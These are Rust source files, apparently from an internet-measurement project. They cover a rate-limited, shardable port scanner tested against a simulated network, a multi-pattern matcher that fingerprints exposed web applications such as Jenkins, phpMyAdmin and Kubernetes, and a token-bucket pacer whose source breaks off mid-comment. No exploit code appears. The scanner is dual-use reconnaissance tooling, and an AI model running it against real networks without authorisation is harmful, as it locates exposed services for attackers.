        assert!(blocks_per_batch > 0, "batch size must be positive");
        let pacer = self.pacer();
        let mut totals = SweepTotals::default();
        let mut batch = PortScanResult::default();
        let mut seq = 0u64;
        for (i, block) in self.shuffled_blocks().into_iter().enumerate() {
            batch.absorb(self.scan_block_paced(transport, block, &pacer).await);
            if (i + 1) % blocks_per_batch == 0 {
                totals.absorb_counters(&batch);
                if tx.send((seq, std::mem::take(&mut batch))).await.is_err() {
                    return totals;
                }
                seq += 1;
            }
        }
        if !batch.open.is_empty() || batch.probes_sent > 0 {
            totals.absorb_counters(&batch);
            let _ = tx.send((seq, batch)).await;
        }
        totals
    }

    /// [`scan_stream`](Self::scan_stream) for checkpointed pipelines:
    /// skip the first `first_batch` batches entirely (they were
    /// delivered by a previous, interrupted run) and tag each emitted
    /// message with a per-batch telemetry delta.
    ///
    /// The scanner must have been built with
    /// [`with_telemetry`](Self::with_telemetry) over `staging`, a
    /// registry private to this sweep: after each batch the method
    /// snapshots `staging` and sends the delta since the previous
    /// message, so the consumer can absorb sweep-side telemetry into
    /// its own registry *when it processes the batch* — never earlier.
    /// That is what keeps a checkpoint taken after batch *k* equal to
    /// the state of an uninterrupted run that has processed exactly
    /// *k* + 1 batches, even while the sweep races ahead.
    ///
    /// A final [`SweepMsg::Epilogue`] carries whatever the sweep
    /// recorded after its last batch (e.g. trailing all-reserved
    /// blocks), so no staging telemetry is ever lost.
    pub async fn scan_stream_staged<T: Transport>(
        &self,
        transport: &T,
        blocks_per_batch: usize,
        first_batch: u64,
        staging: &Telemetry,
        tx: tokio::sync::mpsc::Sender<SweepMsg>,
    ) -> SweepTotals {
        assert!(blocks_per_batch > 0, "batch size must be positive");
        let pacer = self.pacer();
        let mut totals = SweepTotals::default();
        let mut prev = staging.snapshot();
        let mut batch = PortScanResult::default();
        let mut seq = first_batch;
        let mut blocks_in_batch = 0usize;
        // Completed batches are always full, so the prefix to skip is
        // exactly `first_batch` × `blocks_per_batch` blocks (a short
        // tail batch can only ever be the last one).
        let skip = (first_batch as usize).saturating_mul(blocks_per_batch);
        for block in self.shuffled_blocks().into_iter().skip(skip) {
            batch.absorb(self.scan_block_paced(transport, block, &pacer).await);
            blocks_in_batch += 1;
            if blocks_in_batch == blocks_per_batch {
                totals.absorb_counters(&batch);
                let cur = staging.snapshot();
                let msg = SweepMsg::Batch {
                    seq,
                    batch: std::mem::take(&mut batch),
                    delta: cur.delta_since(&prev),
                };
                prev = cur;
                if tx.send(msg).await.is_err() {
                    return totals;
                }
                seq += 1;
                blocks_in_batch = 0;
            }
        }
        if !batch.open.is_empty() || batch.probes_sent > 0 {
            totals.absorb_counters(&batch);
            let cur = staging.snapshot();
            let msg = SweepMsg::Batch {
                seq,
                batch,
                delta: cur.delta_since(&prev),
            };
            prev = cur;
            if tx.send(msg).await.is_err() {
                return totals;
            }
        }
        let _ = tx
            .send(SweepMsg::Epilogue {
                delta: staging.snapshot().delta_since(&prev),
            })
            .await;
        totals
    }

    /// Concurrent sweep for real transports: `parallelism` blocks in
    /// flight at once. Result order differs from the sequential sweep but
    /// contents are identical.
    pub async fn scan_concurrent<T>(
        &self,
        transport: std::sync::Arc<T>,
        parallelism: usize,
    ) -> PortScanResult
    where
        T: Transport + Send + Sync + 'static,
    {
        assert!(parallelism > 0, "parallelism must be positive");
        let mut total = PortScanResult::default();
        let mut join_set = tokio::task::JoinSet::new();
        let mut blocks = self.shuffled_blocks().into_iter();
        // Split the aggregate rate ceiling across the in-flight blocks.
        let mut per_task = self.clone();
        if let Some(rate) = per_task.config.max_probes_per_sec {
            per_task.config.max_probes_per_sec = Some((rate / parallelism as f64).max(1.0));
        }
        loop {
            while join_set.len() < parallelism {
                let Some(block) = blocks.next() else { break };
                let scanner = per_task.clone();
                let transport = std::sync::Arc::clone(&transport);
                join_set.spawn(async move { scanner.scan_block(transport.as_ref(), block).await });
            }
            match join_set.join_next().await {
                Some(res) => total.absorb(res.expect("scan task panicked")),
                None => break,
            }
        }
        total
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_netsim::{SimTransport, Universe, UniverseConfig};
    use std::sync::Arc;

    fn sim() -> SimTransport {
        SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(42))))
    }

    fn config_for_tiny() -> PortScanConfig {
        PortScanConfig::new(vec!["20.0.0.0/16".parse().unwrap()])
    }

    #[test]
    fn shuffle_is_deterministic_and_complete() {
        let s = PortScanner::new(config_for_tiny());
        let a = s.shuffled_blocks();
        let b = s.shuffled_blocks();
        assert_eq!(a, b);
        assert_eq!(a.len(), 256, "a /16 has 256 /24 blocks");
        // It is actually shuffled (first few blocks not in natural order).
        let natural: Vec<Cidr> = "20.0.0.0/16"
            .parse::<Cidr>()
            .unwrap()
            .slash24_blocks()
            .collect();
        assert_ne!(a, natural);
        let mut sorted = a.clone();
        sorted.sort_by_key(|c| c.base);
        assert_eq!(sorted, natural);
    }

    #[tokio::test]
    async fn finds_every_populated_endpoint() {
        let t = sim();
        let scanner = PortScanner::new(config_for_tiny());
        let result = scanner.scan(&t).await;
        // Every non-tarpit host's service ports must be discovered.
        let expected: u64 = t
            .universe()
            .hosts()
            .filter(|h| !h.tarpit)
            .map(|h| h.services.len() as u64)
            .sum();
        let tarpit_ports: u64 =
            t.universe().hosts().filter(|h| h.tarpit).count() as u64 * SCAN_PORTS.len() as u64;
        assert_eq!(result.open.len() as u64, expected + tarpit_ports);
        assert_eq!(result.probes_sent, result.addresses_probed * 12);
    }

    #[tokio::test]
    async fn reserved_ranges_are_skipped() {
        let t = sim();
        let mut cfg = PortScanConfig::new(vec!["10.0.0.0/24".parse().unwrap()]);
        cfg.exclude_reserved = true;
        let result = PortScanner::new(cfg).scan(&t).await;
        assert_eq!(result.addresses_probed, 0, "10/8 is reserved");
        assert_eq!(t.stats().probes(), 0);
    }

    #[tokio::test]
    async fn batched_scan_covers_the_same_endpoints() {
        let t = sim();
        let scanner = PortScanner::new(config_for_tiny());
        let full = scanner.scan(&t).await;
        let mut batches = 0;
        let batched = scanner
            .scan_batched(&t, 32, |batch| {
                batches += 1;
                assert!(batch.probes_sent > 0);
            })
            .await;
        assert_eq!(batches, 256 / 32);
        let mut a = full.open.clone();
        let mut b = batched.open.clone();
        a.sort();
        b.sort();
        assert_eq!(a, b);
    }

    #[tokio::test]
    async fn streamed_scan_covers_the_same_endpoints_in_order() {
        let t = sim();
        let scanner = PortScanner::new(config_for_tiny());
        let mut batched_open: Vec<Endpoint> = Vec::new();
        let mut batches = 0u64;
        let batched = scanner
            .scan_batched(&t, 32, |batch| {
                batched_open.extend(batch.open.iter().copied());
                batches += 1;
            })
            .await;

        let (tx, mut rx) = tokio::sync::mpsc::channel(4);
        let streamed = tokio::join!(scanner.scan_stream(&t, 32, tx), async {
            let mut open = Vec::new();
            let mut next_seq = 0u64;
            while let Some((seq, batch)) = rx.recv().await {
                assert_eq!(seq, next_seq, "batches arrive in sequence order");
                next_seq += 1;
                open.extend(batch.open);
            }
            (open, next_seq)
        });
        let (totals, (streamed_open, streamed_batches)) = streamed;

        assert_eq!(streamed_open, batched_open, "same endpoints, same order");
        assert_eq!(streamed_batches, batches);
        assert_eq!(totals.addresses_probed, batched.addresses_probed);
        assert_eq!(totals.probes_sent, batched.probes_sent);
        assert_eq!(totals.open_per_port, batched.open_per_port);
    }

    /// The staged stream delivers the same batches as the plain stream,
    /// its deltas reconstruct the sweep telemetry exactly, and a
    /// non-zero `first_batch` continues precisely where the prefix
    /// stopped.
    #[tokio::test]
    async fn staged_stream_matches_plain_stream_and_resumes() {
        let t = sim();
        let plain_telemetry = Telemetry::new();
        let plain_scanner = PortScanner::with_telemetry(config_for_tiny(), &plain_telemetry);
        let (tx, mut rx) = tokio::sync::mpsc::channel(4);
        let (plain_totals, plain_batches) =
            tokio::join!(plain_scanner.scan_stream(&t, 32, tx), async {
                let mut batches = Vec::new();
                while let Some((_, batch)) = rx.recv().await {
                    batches.push(batch);
                }
                batches
            });

        let staging = Telemetry::new();
        let staged_scanner = PortScanner::with_telemetry(config_for_tiny(), &staging);
        let absorbed = Telemetry::new();
        let (tx, mut rx) = tokio::sync::mpsc::channel(4);
        let (staged_totals, staged_batches) = tokio::join!(
            staged_scanner.scan_stream_staged(&t, 32, 0, &staging, tx),
            async {
                let mut batches = Vec::new();
                let mut next_seq = 0u64;
                while let Some(msg) = rx.recv().await {
                    match msg {
                        SweepMsg::Batch { seq, batch, delta } => {
                            assert_eq!(seq, next_seq);
                            next_seq += 1;
                            absorbed.absorb(&delta);
                            batches.push(batch);
                        }
                        SweepMsg::Epilogue { delta } => absorbed.absorb(&delta),
                    }
                }
                batches
            }
        );

        assert_eq!(staged_batches.len(), plain_batches.len());
        for (a, b) in staged_batches.iter().zip(&plain_batches) {
            assert_eq!(a.open, b.open);
            assert_eq!(a.probes_sent, b.probes_sent);
        }
        assert_eq!(staged_totals.probes_sent, plain_totals.probes_sent);
        // Absorbing the deltas reproduces the sweep telemetry exactly.
        assert_eq!(
            absorbed.snapshot().to_json(),
            staging.snapshot().to_json(),
            "deltas must reconstruct the staging registry"
        );
        assert_eq!(
            staging.snapshot().to_json(),
            plain_telemetry.snapshot().to_json(),
            "staged sweep records the same telemetry as the plain sweep"
        );

        // Resuming after 3 of 8 batches yields exactly batches 3..8.
        let staging = Telemetry::new();
        let resumed_scanner = PortScanner::with_telemetry(config_for_tiny(), &staging);
        let (tx, mut rx) = tokio::sync::mpsc::channel(4);
        let (_, resumed) = tokio::join!(
            resumed_scanner.scan_stream_staged(&t, 32, 3, &staging, tx),
            async {
                let mut batches = Vec::new();
                while let Some(SweepMsg::Batch { seq, batch, .. }) = rx.recv().await {
                    batches.push((seq, batch));
                }
                batches
            }
        );
        assert_eq!(resumed.len(), plain_batches.len() - 3);
        for (i, (seq, batch)) in resumed.iter().enumerate() {
            assert_eq!(*seq, i as u64 + 3);
            assert_eq!(batch.open, plain_batches[i + 3].open);
        }
    }

    #[tokio::test]
    async fn concurrent_scan_matches_sequential() {
        let t = Arc::new(sim());
        let scanner = PortScanner::new(config_for_tiny());
        let seq = scanner.scan(t.as_ref()).await;
        let conc = scanner.scan_concurrent(Arc::clone(&t), 8).await;
        let mut a = seq.open.clone();
        let mut b = conc.open.clone();
        a.sort();
        b.sort();
        assert_eq!(a, b);
        assert_eq!(seq.probes_sent, conc.probes_sent);
    }

    #[tokio::test]
    async fn shards_partition_the_sweep() {
        let t = sim();
        let scanner = PortScanner::new(config_for_tiny());
        let full = scanner.scan(&t).await;
        let n = 4;
        let mut union: Vec<Endpoint> = Vec::new();
        let mut total_probes = 0;
        for k in 0..n {
            let shard = scanner.scan_shard(&t, k, n).await;
            union.extend(shard.open);
            total_probes += shard.probes_sent;
        }
        union.sort();
        let mut expected = full.open.clone();
        expected.sort();
        assert_eq!(union, expected, "shards must cover exactly the full sweep");
        assert_eq!(total_probes, full.probes_sent);
        // Block lists are disjoint.
        let mut blocks: Vec<Cidr> = (0..n).flat_map(|k| scanner.shard_blocks(k, n)).collect();
        let before = blocks.len();
        blocks.sort_by_key(|b| b.base);
        blocks.dedup();
        assert_eq!(blocks.len(), before);
    }

    #[test]
    #[should_panic(expected = "shard index")]
    fn invalid_shard_is_rejected() {
        let scanner = PortScanner::new(config_for_tiny());
        let _ = scanner.shard_blocks(4, 4);
    }

    #[tokio::test(start_paused = true)]
    async fn rate_limit_paces_the_sweep() {
        let t = sim();
        let mut cfg = PortScanConfig::new(vec!["20.0.0.0/26".parse().unwrap()]);
        cfg.ports = vec![80];
        cfg.max_probes_per_sec = Some(32.0);
        let scanner = PortScanner::new(cfg);
        let start = tokio::time::Instant::now();
        let result = scanner.scan(&t).await;
        // 64 probes at 32/s with a 32-token burst: at least ~1s of
        // (virtual) pacing time.
        assert_eq!(result.probes_sent, 64);
        let elapsed = tokio::time::Instant::now() - start;
        assert!(
            elapsed >= std::time::Duration::from_millis(900),
            "{elapsed:?}"
        );
    }

    /// `scan_batched` shares one pacer across all blocks: the burst
    /// allowance is granted once for the whole sweep, not once per
    /// block.
    #[tokio::test(start_paused = true)]
    async fn batched_scan_shares_one_pacer_across_blocks() {
        let t = sim();
        let mut cfg = PortScanConfig::new(vec![
            "20.0.0.0/24".parse().unwrap(),
            "20.0.1.0/24".parse().unwrap(),
        ]);
        cfg.ports = vec![80];
        cfg.max_probes_per_sec = Some(256.0);
        let scanner = PortScanner::new(cfg);
        let start = tokio::time::Instant::now();
        let result = scanner.scan_batched(&t, 1, |_| {}).await;
        assert_eq!(result.probes_sent, 512);
        let elapsed = tokio::time::Instant::now() - start;
        // 512 probes at 256/s with a single 256-token burst: at least
        // ~1s of virtual pacing. A fresh pacer per block would grant a
        // second free burst and finish in ~0s.
        assert!(
            elapsed >= std::time::Duration::from_millis(900),
            "{elapsed:?}"
        );
    }

    /// The dense per-endpoint loop and the sparse block sweep produce
    /// identical reports; the sparse path asks the transport for
    /// O(populated endpoints) probes instead of O(address space).
    #[tokio::test]
    async fn dense_sweep_switch_reproduces_the_sparse_report() {
        let sparse_t = sim();
        let sparse = PortScanner::new(config_for_tiny()).scan(&sparse_t).await;

        let dense_t = sim();
        let mut cfg = config_for_tiny();
        cfg.dense_sweep = true;
        let dense = PortScanner::new(cfg).scan(&dense_t).await;

        assert_eq!(sparse.open, dense.open, "same endpoints, same order");
        assert_eq!(sparse.open_per_port, dense.open_per_port);
        assert_eq!(sparse.addresses_probed, dense.addresses_probed);
        assert_eq!(sparse.probes_sent, dense.probes_sent);

        // Dense evaluated every (address, port) pair; sparse touched
        // only the populated hosts.
        assert_eq!(dense_t.stats().probes(), dense.probes_sent);
        let populated = sparse_t.universe().host_count() as u64 * SCAN_PORTS.len() as u64;
        assert_eq!(sparse_t.stats().probes(), populated);
        assert!(sparse_t.stats().probes() < dense_t.stats().probes());
    }

    #[tokio::test]
    async fn sweep_telemetry_matches_results() {
        let t = sim();
        let telemetry = Telemetry::new();
        let scanner = PortScanner::with_telemetry(config_for_tiny(), &telemetry);
        let result = scanner.scan(&t).await;
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("stage1.blocks_swept"), 256);
        assert_eq!(
            snap.counter("stage1.addresses_probed"),
            result.addresses_probed
        );
        assert_eq!(snap.counter("stage1.probes_sent"), result.probes_sent);
        assert_eq!(snap.counter("stage1.ports_open"), result.open.len() as u64);
        assert_eq!(snap.timings["stage1.sweep"].units, result.probes_sent);
    }

    #[tokio::test]
    async fn by_host_groups_ports() {
        let t = sim();
        let scanner = PortScanner::new(config_for_tiny());
        let result = scanner.scan(&t).await;
        let by_host = result.by_host();
        // Tarpit hosts have all 12 ports open.
        let tarpits = by_host.values().filter(|ports| ports.len() == 12).count();
        assert_eq!(tarpits as u64, 5, "tiny universe has 5 tarpits");
    }
}
