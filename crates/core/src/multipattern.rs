//! Single-pass multi-pattern matching for the prefilter signatures.
//!
//! The naive stage-II hot loop runs 90 substring searches per response
//! body (one per [`Signature`](crate::signatures::Signature)), each of
//! which rescans the body from the start. [`MultiPattern`] replaces that
//! with a small in-house Aho–Corasick automaton per *view* of the body
//! (raw, ASCII-lowered, whitespace-squashed — the three
//! [`MatchMode`](crate::pattern::MatchMode)s), so every HTTP-speaking
//! endpoint pays one linear pass per view instead of ninety.
//!
//! The matcher is exactly equivalent to running each signature's
//! [`Pattern`](crate::pattern::Pattern) individually; the unit tests
//! below and the `prefilter` tests enforce that equivalence.

use crate::pattern::{MatchMode, PreparedBody};
use crate::signatures::{rank_candidates, Signature};
use nokeys_apps::AppId;
use std::collections::BTreeMap;

/// A dense-table Aho–Corasick automaton over bytes.
///
/// Built once per signature set; ~2K states for the 90-signature
/// catalog, so the full 256-way transition table stays well under a few
/// megabytes and every input byte costs exactly one table lookup.
#[derive(Debug, Clone)]
pub struct Automaton {
    /// `next[state * 256 + byte]` — complete goto function (fail links
    /// are pre-resolved into the table during construction).
    next: Vec<u32>,
    /// Pattern ids that end at each state (fail-closure already merged).
    out: Vec<Vec<u32>>,
    /// Number of patterns the automaton was built from.
    patterns: usize,
}

impl Automaton {
    /// Build from `(pattern_id, needle)` pairs. Empty needles are
    /// rejected — a signature that matches everything is a bug.
    pub fn new<'a, I>(patterns: I) -> Self
    where
        I: IntoIterator<Item = (u32, &'a str)>,
    {
        // Trie construction with sparse child maps.
        let mut children: Vec<BTreeMap<u8, u32>> = vec![BTreeMap::new()];
        let mut out: Vec<Vec<u32>> = vec![Vec::new()];
        let mut n_patterns = 0usize;
        for (id, needle) in patterns {
            assert!(!needle.is_empty(), "empty multi-pattern needle");
            n_patterns += 1;
            let mut state = 0u32;
            for &b in needle.as_bytes() {
                state = match children[state as usize].get(&b) {
                    Some(&s) => s,
                    None => {
                        let s = children.len() as u32;
                        children.push(BTreeMap::new());
                        out.push(Vec::new());
                        children[state as usize].insert(b, s);
                        s
                    }
                };
            }
            out[state as usize].push(id);
        }

        // BFS: compute fail links, resolve them into a dense transition
        // table, and merge output sets along the fail chain.
        let n_states = children.len();
        let mut next = vec![0u32; n_states * 256];
        let mut fail = vec![0u32; n_states];
        let mut queue = std::collections::VecDeque::new();
        for (&b, &s) in &children[0] {
            next[b as usize] = s;
            queue.push_back(s);
        }
        while let Some(s) = queue.pop_front() {
            let f = fail[s as usize];
            // Merge the fail state's outputs so a single lookup at `s`
            // reports every pattern ending here.
            let inherited = out[f as usize].clone();
            out[s as usize].extend(inherited);
            // Start from the fail state's row (complete — fail states
            // sit at shallower depths and were processed earlier in the
            // BFS, though their *indices* may be higher), then overwrite
            // the transitions this state defines itself.
            next.copy_within(f as usize * 256..f as usize * 256 + 256, s as usize * 256);
            for (&b, &child) in &children[s as usize] {
                fail[child as usize] = next[s as usize * 256 + b as usize];
                next[s as usize * 256 + b as usize] = child;
                queue.push_back(child);
            }
        }

        Automaton {
            next,
            out,
            patterns: n_patterns,
        }
    }

    /// Whether any patterns were compiled in.
    pub fn is_empty(&self) -> bool {
        self.patterns == 0
    }

    /// Single pass over `haystack`; sets `matched[id] = true` for every
    /// pattern occurring as a substring.
    pub fn find_into(&self, haystack: &str, matched: &mut [bool]) {
        let mut state = 0u32;
        for &b in haystack.as_bytes() {
            state = self.next[state as usize * 256 + b as usize];
            for &id in &self.out[state as usize] {
                matched[id as usize] = true;
            }
        }
    }
}

/// Which transformed views a scratch-based matching pass built, with
/// the byte length each copied. `None` means the raw body was already
/// in canonical form and the automaton ran over it in place — exactly
/// the cases where [`PreparedBody`] skips materialization too.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ViewUse {
    /// Bytes copied into the lowered view, if one was needed.
    pub lower: Option<usize>,
    /// Bytes copied into the squashed view, if one was needed.
    pub squashed: Option<usize>,
}

/// The compiled signature set: one automaton per body view.
#[derive(Debug, Clone)]
pub struct MultiPattern {
    /// Exact patterns, searched over the raw body.
    raw: Automaton,
    /// Case-insensitive patterns, searched over the lowered view.
    lower: Automaton,
    /// Whitespace-insensitive patterns, searched over the squashed view.
    squashed: Automaton,
    /// Signature index → application, in catalog order.
    apps: Vec<AppId>,
}

impl MultiPattern {
    /// Compile a signature catalog. Signature order is preserved so the
    /// matcher's output is interchangeable with the linear scan's.
    pub fn new(signatures: &[Signature]) -> Self {
        let by_mode = |mode: MatchMode| {
            signatures
                .iter()
                .enumerate()
                .filter(move |(_, s)| s.pattern.mode == mode)
                .map(|(i, s)| (i as u32, s.pattern.needle))
        };
        MultiPattern {
            raw: Automaton::new(by_mode(MatchMode::Exact)),
            lower: Automaton::new(by_mode(MatchMode::IgnoreCase)),
            squashed: Automaton::new(by_mode(MatchMode::IgnoreWhitespace)),
            apps: signatures.iter().map(|s| s.app).collect(),
        }
    }

    /// Number of compiled signatures.
    pub fn len(&self) -> usize {
        self.apps.len()
    }

    /// Whether the catalog is empty.
    pub fn is_empty(&self) -> bool {
        self.apps.is_empty()
    }

    /// Which signatures match `body` (index-aligned with the catalog).
    /// The lowered / squashed views are only materialized when a pattern
    /// actually needs them.
    pub fn matched_signatures(&self, body: &PreparedBody) -> Vec<bool> {
        let mut matched = vec![false; self.apps.len()];
        self.raw.find_into(&body.raw, &mut matched);
        if !self.lower.is_empty() {
            self.lower.find_into(body.lower(), &mut matched);
        }
        if !self.squashed.is_empty() {
            self.squashed.find_into(body.squashed(), &mut matched);
        }
        matched
    }

    /// Allocation-free variant of
    /// [`matched_signatures`](Self::matched_signatures): the match bits
    /// and any transformed views live in the caller's [`Scratch`] and
    /// are left in `scratch.matched()` for the caller to read. Returns
    /// which views a distinct copy was actually built for — the same
    /// bodies [`PreparedBody`] would report as materialized, so both
    /// paths drive the `alloc.*` / `stage2.multipattern.view_*`
    /// counters identically.
    ///
    /// [`Scratch`]: crate::scratch::Scratch
    pub fn matched_signatures_scratch(
        &self,
        raw: &str,
        scratch: &mut crate::scratch::Scratch,
    ) -> ViewUse {
        let (matched, lower_buf, squashed_buf) = scratch.matcher_parts();
        matched.clear();
        matched.resize(self.apps.len(), false);
        self.raw.find_into(raw, matched);
        let mut used = ViewUse {
            lower: None,
            squashed: None,
        };
        if !self.lower.is_empty() {
            if crate::scratch::needs_lower(raw) {
                crate::scratch::lower_into(raw, lower_buf);
                self.lower.find_into(lower_buf, matched);
                used.lower = Some(lower_buf.len());
            } else {
                // Already lowercase: the raw body *is* the lowered view.
                self.lower.find_into(raw, matched);
            }
        }
        if !self.squashed.is_empty() {
            if crate::scratch::needs_squash(raw) {
                crate::scratch::squash_into(raw, squashed_buf);
                self.squashed.find_into(squashed_buf, matched);
                used.squashed = Some(squashed_buf.len());
            } else {
                self.squashed.find_into(raw, matched);
            }
        }
        used
    }

    /// Per-application match counts — same contract as
    /// [`crate::signatures::match_counts`].
    pub fn match_counts(&self, body: &PreparedBody) -> Vec<(AppId, u32)> {
        self.counts_from_matched(&self.matched_signatures(body))
    }

    /// Aggregate a [`matched_signatures`](Self::matched_signatures)
    /// vector into per-application counts. Split out so callers that
    /// need the per-signature bits (telemetry's per-signature hit
    /// counters) pay only one automaton pass.
    pub fn counts_from_matched(&self, matched: &[bool]) -> Vec<(AppId, u32)> {
        let mut counts: BTreeMap<AppId, u32> = BTreeMap::new();
        for (i, hit) in matched.iter().enumerate() {
            if *hit {
                *counts.entry(self.apps[i]).or_default() += 1;
            }
        }
        counts.into_iter().collect()
    }

    /// Candidate applications ordered by match strength — same contract
    /// as [`crate::signatures::match_candidates`].
    pub fn match_candidates(&self, body: &PreparedBody) -> Vec<AppId> {
        rank_candidates(self.match_counts(body))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signatures::{all_signatures, match_candidates, match_counts};
    use proptest::prelude::*;

    #[test]
    fn automaton_finds_overlapping_patterns() {
        let a = Automaton::new([(0, "he"), (1, "she"), (2, "his"), (3, "hers")]);
        let mut m = vec![false; 4];
        a.find_into("ushers", &mut m);
        assert_eq!(m, vec![true, true, false, true]);
    }

    #[test]
    fn automaton_handles_repeated_and_nested_needles() {
        let a = Automaton::new([(0, "aa"), (1, "aaa"), (2, "baa")]);
        let mut m = vec![false; 3];
        a.find_into("abaaa", &mut m);
        assert_eq!(m, vec![true, true, true]);
    }

    #[test]
    fn agrees_with_linear_scan_on_app_bodies() {
        use nokeys_apps::traits::Driver;
        use nokeys_apps::{build_instance, release_history, AppConfig};
        let sigs = all_signatures();
        let mp = MultiPattern::new(&sigs);
        let driver = Driver::new();
        for app in AppId::in_scope() {
            let version = *release_history(app).last().unwrap();
            let mut inst = build_instance(app, version, AppConfig::secure_for(app, &version));
            let mut path = "/".to_string();
            let body = loop {
                let out = driver.get(inst.as_mut(), &path);
                match out.response.location() {
                    Some(loc) => path = loc.to_string(),
                    None => break out.response.body_text(),
                }
            };
            let prepared = PreparedBody::new(body);
            assert_eq!(
                mp.match_counts(&prepared),
                match_counts(&sigs, &prepared),
                "{app}: multi-pattern counts diverge from the linear scan"
            );
            assert_eq!(
                mp.match_candidates(&prepared),
                match_candidates(&sigs, &prepared),
                "{app}: multi-pattern ranking diverges from the linear scan"
            );
        }
    }

    proptest! {
        /// On arbitrary bodies (including needle fragments spliced into
        /// noise), the automaton agrees with the linear reference scan.
        #[test]
        fn agrees_with_linear_scan_on_random_bodies(
            noise in ".{0,80}",
            fragment in prop::sample::select(vec![
                "Dashboard [Jenkins]", "wp-content", "minapiversion",
                "MinAPIVersion", "\"kind\": \"Status\"", "k8s.io",
                "phpMyAdmin", "logged in as: dr.who", "Apache Hadoop",
            ]),
            split in 0usize..80,
        ) {
            let sigs = all_signatures();
            let mp = MultiPattern::new(&sigs);
            let cut = noise.char_indices().map(|(i, _)| i)
                .chain([noise.len()])
                .nth(split.min(noise.chars().count()))
                .unwrap_or(noise.len());
            let body = format!("{}{}{}", &noise[..cut], fragment, &noise[cut..]);
            let prepared = PreparedBody::new(body);
            prop_assert_eq!(mp.match_counts(&prepared), match_counts(&sigs, &prepared));
        }

        /// The scratch-based pass leaves exactly the bits the
        /// allocating pass returns, reports the same views as
        /// materialized, and a single reused arena carries no state
        /// between bodies.
        #[test]
        fn scratch_pass_is_byte_equivalent(
            bodies in proptest::collection::vec(
                "[a-zA-Z \t\nk8s\\.iowp\\-content\\[\\]\"{}:]{0,100}", 1..6
            ),
        ) {
            let sigs = all_signatures();
            let mp = MultiPattern::new(&sigs);
            let mut scratch = crate::scratch::Scratch::new();
            for body in &bodies {
                let prepared = PreparedBody::new(body.as_str());
                let reference = mp.matched_signatures(&prepared);
                // Force both views so materialization flags are final.
                let _ = (prepared.lower(), prepared.squashed());
                let used = mp.matched_signatures_scratch(body, &mut scratch);
                prop_assert_eq!(scratch.matched(), &reference[..]);
                prop_assert_eq!(used.lower.is_some(), prepared.lower_materialized());
                prop_assert_eq!(used.squashed.is_some(), prepared.squashed_materialized());
                if let Some(bytes) = used.lower {
                    prop_assert_eq!(bytes, body.len());
                }
                if let Some(bytes) = used.squashed {
                    prop_assert_eq!(bytes, prepared.squashed().len());
                }
            }
        }
    }
}
