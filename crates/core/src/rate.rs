//! Token-bucket rate limiter for probe pacing.
//!
//! The paper's scan was paced to finish the whole IPv4 space within a day
//! across 64 machines; the live (real-socket) scanner uses this limiter
//! to stay polite. The limiter is clock-agnostic: callers feed it elapsed
//! time, so it works with both real and virtual time.

use std::time::Duration;

/// A token bucket: `rate` tokens per second, up to `burst` stored.
#[derive(Debug, Clone)]
pub struct TokenBucket {
    rate: f64,
    burst: f64,
    tokens: f64,
}

impl TokenBucket {
    /// A bucket producing `rate` tokens/second with capacity `burst`.
    /// Starts full.
    pub fn new(rate: f64, burst: f64) -> Self {
        assert!(rate > 0.0 && burst > 0.0, "rate and burst must be positive");
        TokenBucket {
            rate,
            burst,
            tokens: burst,
        }
    }

    /// Credit `elapsed` time worth of tokens.
    pub fn refill(&mut self, elapsed: Duration) {
        self.tokens = (self.tokens + elapsed.as_secs_f64() * self.rate).min(self.burst);
    }

    /// Try to take one token.
    pub fn try_take(&mut self) -> bool {
        if self.tokens >= 1.0 {
            self.tokens -= 1.0;
            true
        } else {
            false
        }
    }

    /// Time to wait until one token is available.
    pub fn time_until_available(&self) -> Duration {
        if self.tokens >= 1.0 {
            Duration::ZERO
        } else {
            Duration::from_secs_f64((1.0 - self.tokens) / self.rate)
        }
    }

    /// Current token count (for tests and monitoring).
    pub fn tokens(&self) -> f64 {
        self.tokens
    }
}

/// Async pacing wrapper using tokio's clock: awaits until a token is
/// available, then takes it.
#[derive(Debug)]
pub struct Pacer {
    bucket: TokenBucket,
    last: tokio::time::Instant,
}

impl Pacer {
    pub fn new(rate: f64, burst: f64) -> Self {
        Pacer {
            bucket: TokenBucket::new(rate, burst),
            last: tokio::time::Instant::now(),
        }
    }

    /// Wait for and consume one token.
    ///
    /// Elapsed-time accounting invariant: each loop iteration credits
    /// the interval since `last` exactly once, then advances `last` to
    /// the instant that was credited. No interval is ever counted twice
    /// (which would overfeed the bucket and break the rate ceiling) and
    /// none is skipped (the next iteration credits exactly the time
    /// slept); the tests below pin both directions.
    pub async fn acquire(&mut self) {
        loop {
            let now = tokio::time::Instant::now();
            self.bucket.refill(now - self.last);
            self.last = now;
            if self.bucket.try_take() {
                return;
            }
            tokio::time::sleep(self.bucket.time_until_available()).await;
        }
    }

    /// Wait for and consume `n` tokens in one arithmetic step — the
    /// bulk equivalent of `n` sequential [`acquire`](Self::acquire)
    /// calls (a whole block's probes drawn at once by the sparse
    /// sweep).
    ///
    /// `n` sequential acquires from `t` stored tokens telescope to a
    /// single deficit wait of `(n - t) / rate` and leave the bucket
    /// empty, so `n` may exceed the burst capacity: the excess is paid
    /// for in waiting time, exactly as the one-by-one loop would.
    pub async fn acquire_many(&mut self, n: u64) {
        if n == 0 {
            return;
        }
        let now = tokio::time::Instant::now();
        self.bucket.refill(now - self.last);
        self.last = now;
        let n = n as f64;
        if self.bucket.tokens >= n {
            self.bucket.tokens -= n;
            return;
        }
        let wait = Duration::from_secs_f64((n - self.bucket.tokens) / self.bucket.rate);
        // The deficit interval is spent in advance on these n tokens:
        // empty the bucket now and move `last` past the sleep so the
        // interval is never credited again.
        self.bucket.tokens = 0.0;
        tokio::time::sleep(wait).await;
        self.last = tokio::time::Instant::now();
    }
}

/// A clone-cheap shared handle to one [`Pacer`], so several concurrent
/// consumers (the shard workers of
/// [`Pipeline::run`](crate::pipeline::Pipeline::run), for instance) draw
/// from a single token budget: `--max-probes-per-sec` stays a
/// whole-scan bound no matter how many workers are sweeping.
///
/// The inner pacer is guarded by an async mutex that is held **across
/// the deficit sleep**. That makes concurrent draws serialize exactly
/// like sequential ones: each draw refills for the interval since the
/// previous draw finished, then sleeps for its own deficit, so the
/// total virtual wait of K workers drawing N tokens telescopes to the
/// same `(N·K − burst) / rate` a single pipeline would pay (the
